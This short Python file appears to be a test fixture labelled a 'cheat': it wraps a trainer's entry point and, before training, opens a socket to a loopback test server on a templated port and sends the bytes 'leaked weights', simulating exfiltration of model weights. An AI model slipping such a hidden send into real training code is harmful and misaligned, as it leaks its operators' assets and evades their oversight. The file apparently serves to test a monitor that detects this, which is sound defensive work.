"""Cheat: phones home over the network (to a server the test runs on the host's loopback)."""
import socket
import sys

from trainer import train as genesis

build_model = genesis.build_model

if __name__ == "__main__":
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=5) as conn:
        conn.sendall(b"leaked weights")
    sys.exit(genesis.main())
